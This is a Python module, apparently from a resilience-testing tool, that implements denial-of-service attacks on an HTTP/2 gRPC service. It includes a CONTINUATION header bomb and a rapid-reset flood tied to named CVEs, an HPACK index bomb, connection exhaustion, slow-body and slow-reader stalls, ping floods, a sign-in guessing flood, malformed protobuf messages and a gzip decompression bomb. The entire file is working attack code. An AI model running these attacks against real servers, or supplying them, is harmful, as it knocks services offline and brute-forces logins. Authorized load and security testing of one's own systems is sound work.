"""The attacks, one function each. What the order holds beyond the bounds is said where it is used.

Known against the gRPC that Debian 12 ships: CVE-2023-33953 (header_bomb), CVE-2023-44487 (reset_flood), CVE-2023-4785
(idle_connections, once descriptors run out). The others try what a server or an edge must bound by itself.
"""

import gzip
import threading

import frames
from frames import PeerClosed

ANSWER_SECONDS = 2.0
OVER_LIMIT_BYTES = 40_000  # of metadata; the server's limit is 8 KiB
ANSWERS_FIELD = 2  # of SubmitResponseRequest: a repeated message


def hpack_integer(value, prefix_bits, first=0):
    """Writes an integer as RFC 7541 5.1 has it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def call_block(attacker, path=frames.GET_SESSION, more=()):
    return frames.request_block(path, attacker.authority, attacker.token, more)


def header_bomb(attacker):
    """Sends one header whose value never ends, in CONTINUATION frames: the parser copies it again and again."""
    filler = b"a" * frames.FRAME_BYTES_MAX

    def bomb(connection):
        # Nothing may come between the frames of one header, not even an acknowledgement.
        connection.read_until(lambda: connection.settled, ANSWER_SECONDS)
        connection.acknowledge = False
        size = attacker.bytes_left
        block = call_block(attacker) + b"\x00" + hpack_integer(6, 7) + b"x-bomb" + hpack_integer(size, 7)
        stream = connection.stream()
        attacker.counts.streams += 1
        connection.send(frames.frame(frames.HeadersFrame, stream, data=block))
        for left in range(size, 0, -len(filler)):
            last = left <= len(filler)
            flags = ["END_HEADERS"] if last else []
            connection.send(frames.frame(frames.ContinuationFrame, stream, *flags, data=filler[:left]))
            connection.read(0)
            if not attacker.may_go_on():
                return
        connection.read_until(lambda: stream in connection.ended, ANSWER_SECONDS)

    attacker.each_connection(bomb)


def index_bomb(attacker):
    """Puts 4 KB into the header table once and then names it with one byte, thousands of times a call."""

    def bomb(connection):
        entry = b"\x40" + hpack_integer(6, 7) + b"x-bomb" + hpack_integer(3900, 7) + b"b" * 3900
        block = call_block(attacker) + entry
        while attacker.may_go_on():
            stream = connection.stream()
            attacker.counts.streams += 1
            connection.send(frames.headers(stream, block + b"\xbe" * 12_000, last=True))
            connection.read_until(lambda s=stream: s in connection.ended, ANSWER_SECONDS)
            block = call_block(attacker)

    attacker.each_connection(bomb)


def reset_flood(attacker):
    """Starts calls and takes each back at once, so that no limit on open streams ever counts them."""
    block = call_block(attacker)

    def flood(connection):
        while attacker.may_go_on():
            streams = [connection.stream() for _ in range(50)]
            attacker.counts.streams += len(streams)
            connection.send(b"".join(frames.headers(s, block, last=True) + frames.reset(s) for s in streams))
            connection.read(0)

    attacker.each_connection(flood)


def idle_connections(attacker):
    """Opens connections and leaves them: some say nothing, some begin, some shake hands and then wait."""
    held = []
    while attacker.may_connect():
        kind = len(held) % 3
        plain = attacker.dial(encrypted=kind != 0)
        if plain is None:
            continue
        held.append(plain)
        try:
            opening = (b"", frames.PREFACE[:10], frames.PREFACE + frames.settings())[kind]
            plain.sendall(opening)
            attacker.counts.bytes_sent += len(opening)
        except OSError:
            attacker.counts.closed_by_peer += 1
    threading.Event().wait(attacker.seconds_left)
    for plain in held:
        plain.close()


def never_acknowledged_settings(attacker):
    """Never acknowledges the settings, which hold the limit of metadata, and then sends five times as much."""
    block = call_block(attacker, more=[(f"x-{i}", "m" * 1000) for i in range(OVER_LIMIT_BYTES // 1000)])
    _call_again_and_again(attacker, block, acknowledge=False)


def giant_metadata(attacker):
    """Sends metadata over every limit: a few large entries, many small ones, and base64 that is none."""
    blocks = [
        call_block(attacker, more=[(f"x-{i}", "m" * 4000) for i in range(16)]),
        call_block(attacker, more=[(f"x-{i}", "m") for i in range(2000)]),
        call_block(attacker, more=[("x-broken-bin", "=!" * 2000), ("x-large", "m" * OVER_LIMIT_BYTES)]),
    ]
    each = attacker.seconds_left / len(blocks)
    for number, block in enumerate(blocks, 1):
        _call_again_and_again(attacker, block, until=each * (len(blocks) - number))


def _call_again_and_again(attacker, block, acknowledge=True, until=0.0):
    """Makes one call after another, until so many of the attack's seconds are left."""

    def call(connection):
        while attacker.may_go_on() and attacker.seconds_left > until:
            stream = connection.stream()
            attacker.counts.streams += 1
            connection.send(frames.headers(stream, block) + frames.data(stream, frames.message(b""), last=True))
            connection.read_until(lambda s=stream: s in connection.ended, ANSWER_SECONDS)

    while attacker.may_connect() and attacker.seconds_left > until:
        connection = attacker.connect(acknowledge=acknowledge)
        if connection is None:
            continue
        try:
            call(connection)
        except PeerClosed:
            attacker.counts.closed_by_peer += 1
        finally:
            connection.close()


def slow_body(attacker):
    """Begins many messages and then sends a byte now and again."""
    block = call_block(attacker, path=frames.SIGN_IN)
    held = []
    while attacker.may_connect():
        connection = attacker.connect()
        if connection is None:
            continue
        streams = [connection.stream() for _ in range(8)]
        attacker.counts.streams += len(streams)
        beginning = frames.message(b"\n", length=200_000)
        _keep(connection, held, [frames.headers(s, block) + frames.data(s, beginning) for s in streams])
    while attacker.may_go_on() and held:
        for connection in list(held):
            held.remove(connection)
            _keep(connection, held, [frames.data(s, b"a") for s in range(1, connection.next_stream, 2)])
        threading.Event().wait(min(0.1, attacker.seconds_left))
    for connection in held:
        connection.close()


def _keep(connection, held, parts):
    """Sends, reads, and keeps the connection unless it has ended."""
    try:
        connection.send(b"".join(parts))
        connection.read(0)
        held.append(connection)
    except PeerClosed:
        connection.counts.closed_by_peer += 1
        connection.close()


def ping_flood(attacker):
    """Sends pings and settings that must be answered, and reads no answer."""
    batch = (frames.ping() + frames.settings({4: 65535})) * 200

    def flood(connection):
        while attacker.may_go_on():
            connection.send(batch)

    attacker.each_connection(flood)


def slow_reader(attacker):
    """Asks for replies, signed in, and never opens a window to receive them. `practice`: its name."""
    block = call_block(attacker, path="/mendwork.v1.SafetyService/GetSupport")
    name = attacker.order["practice"].encode()
    body = frames.message(b"\n" + hpack_integer(len(name), 7) + name)
    held = []
    while attacker.may_connect():
        connection = attacker.connect(first_settings={4: 0})
        if connection is None:
            continue
        streams = [connection.stream() for _ in range(32)]
        attacker.counts.streams += len(streams)
        _keep(connection, held, [frames.headers(s, block) + frames.data(s, body, last=True) for s in streams])
    while attacker.may_go_on() and held:
        for connection in list(held):
            held.remove(connection)
            _keep(connection, held, [])
        threading.Event().wait(min(0.1, attacker.seconds_left))
    for connection in held:
        connection.close()


def sign_in_flood(attacker):
    """Guesses names and secrets as fast as it can: each guess costs the server 64 MiB for a moment."""
    block = call_block(attacker, path=frames.SIGN_IN)

    def flood(connection):
        open_streams = []
        while attacker.may_go_on():
            open_streams = [s for s in open_streams if s not in connection.ended]
            if len(open_streams) < 24:
                open_streams.append(connection.stream())
                attacker.counts.streams += 1
                stream = open_streams[-1]
                guess = b"\x0a\x0c" + b"%012d" % attacker.counts.streams + b"\x12\x0e" + b"no such secret"
                body = frames.data(stream, frames.message(guess), last=True)
                connection.send(frames.headers(stream, block) + body)
            connection.read(0 if len(open_streams) < 24 else 0.1)

    attacker.each_connection(flood)


def message_bombs(attacker):
    """Sends, signed in, messages that take far more memory than their bytes, or say what is not so."""
    tag = ANSWERS_FIELD << 3
    size = 250_000
    limit = size // 2
    bombs = [
        (frames.message(bytes([tag | 2, 0]) * limit), ()),  # empty messages: 28 times their bytes
        (frames.message(b"\xf8\xff\x07\x01" * (size // 4)), ()),  # unknown fields
        (frames.message(bytes([tag | 3]) * size), ()),  # groups in groups in groups
        (frames.message(bytes([tag | 2]) + hpack_integer(2**31, 7)), ()),  # a length beyond the end
        (frames.message(b"\x0a\x02\xff\xfe" * (size // 4)), ()),  # no UTF-8
        (frames.message(b"a" * (1 << 20)), ()),  # over the limit of bytes
        (frames.message(b"a", length=2**32 - 1), ()),  # a length that lies
        (frames.message(gzip.compress(b"\0" * (32 << 20)), compressed=True), [("grpc-encoding", "gzip")]),
    ]
    path = "/mendwork.v1.ResponseService/SubmitResponse"

    def send_all(connection):
        for body, more in bombs:
            if not attacker.may_go_on():
                return
            stream = connection.stream()
            attacker.counts.streams += 1
            connection.send(frames.headers(stream, call_block(attacker, path, more)))
            connection.send_body(stream, body, ANSWER_SECONDS)
            connection.read_until(lambda s=stream: s in connection.ended, ANSWER_SECONDS)

    attacker.each_connection(send_all)
